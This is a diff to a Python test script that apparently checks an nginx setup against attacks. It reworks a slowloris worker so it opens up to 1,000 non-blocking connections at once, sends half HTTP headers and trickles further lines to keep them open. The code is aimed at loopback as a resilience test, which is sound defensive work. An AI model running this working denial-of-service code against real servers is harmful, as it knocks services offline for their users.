@@ -6,6 +6,7 @@ described in main(). Every check prints one line "ok   ..." or "FAIL ..."; the e
 The attacks come from other loopback addresses (127.0.0.0/8 is all loopback on Linux) than the probes, so
 "one client" is one source address, as nginx's per-address limits see it.
 """
+import errno
 import hashlib
 import html
 import http.client
@@ -138,14 +139,19 @@ def healthz(port, timeout=2.0):
 # ----------------------------------------------------------------------------------------------- a. slowloris
 def slowloris_worker(port, src, n, seconds, statfile):
     """Holds n connections that each sent half a request header, re-opening any the server closes, and
-    trickles one more header line every 3 s (which nginx does not count as progress). Writes its figures to
-    statfile as JSON twice a second."""
+    trickles one more header line every 3 s (which nginx does not count as progress). Connects are
+    non-blocking, up to 1,000 in flight: a blocking connect waits out a SYN retransmit whenever the
+    listener's accept queue is full, and on a busy 2-core machine that slowed the ramp so much that nginx's
+    header timeout closed the first connections before the last were open. Writes its figures to statfile as
+    JSON twice a second."""
     sel = selectors.DefaultSelector()
-    opened_at = {}
+    connecting = {}   # socket -> when its connect began
+    opened_at = {}    # socket -> when its half header went out
     opened = closed = failed = 0
     lifetimes = []
     end = time.monotonic() + seconds
     last_trickle = last_stat = time.monotonic()
+    half_header = b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: slowloris\r\n"
 
     def stat(final=False):
         with open(statfile + ".tmp", "w") as f:
@@ -153,36 +159,58 @@ def slowloris_worker(port, src, n, seconds, statfile):
                        "lifetimes": lifetimes[-2000:] if final else []}, f)
         os.replace(statfile + ".tmp", statfile)
 
+    def drop(s):
+        sel.unregister(s)
+        s.close()
+
     while time.monotonic() < end:
         budget = 500
-        while len(opened_at) < n and budget > 0 and time.monotonic() < end:
+        while (len(opened_at) + len(connecting) < n and len(connecting) < 1000 and budget > 0
+               and time.monotonic() < end):
             budget -= 1
             s = socket.socket()
             try:
                 s.setsockopt(socket.SOL_IP, IP_BIND_ADDRESS_NO_PORT, 1)
                 s.bind((src, 0))
-                s.settimeout(2)
-                s.connect(("127.0.0.1", port))
-                s.sendall(b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: slowloris\r\n")
                 s.setblocking(False)
-                sel.register(s, selectors.EVENT_READ)
-                opened_at[s] = time.monotonic()
-                opened += 1
+                err = s.connect_ex(("127.0.0.1", port))
             except OSError:
+                err = -1
+            if err not in (0, errno.EINPROGRESS):
                 failed += 1
                 s.close()
                 break
-        for key, _ in sel.select(timeout=0.05 if len(opened_at) < n else 0.2):
+            sel.register(s, selectors.EVENT_WRITE)
+            connecting[s] = time.monotonic()
+        busy = len(opened_at) + len(connecting) < n or connecting
+        for key, _ in sel.select(timeout=0.05 if busy else 0.2):
             s = key.fileobj
+            if s in connecting:
+                del connecting[s]
+                try:
+                    if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) != 0:
+                        raise OSError("connect failed")
+                    s.send(half_header)
+                except OSError:
+                    failed += 1
+                    drop(s)
+                    continue
+                sel.modify(s, selectors.EVENT_READ)
+                opened_at[s] = time.monotonic()
+                opened += 1
+                continue
             try:
                 s.recv(4096)
             except OSError:
                 pass
-            sel.unregister(s)
             lifetimes.append(time.monotonic() - opened_at.pop(s))
             closed += 1
-            s.close()
+            drop(s)
         now = time.monotonic()
+        for s in [s for s, t in connecting.items() if now - t > 2]:
+            del connecting[s]
+            failed += 1
+            drop(s)
         if now - last_trickle > 3:
             last_trickle = now
             for s in list(opened_at):
@@ -194,7 +222,7 @@ def slowloris_worker(port, src, n, seconds, statfile):
             last_stat = now
             stat()
     stat(final=True)
-    for s in opened_at:
+    for s in list(opened_at) + list(connecting):
         s.close()
 
 
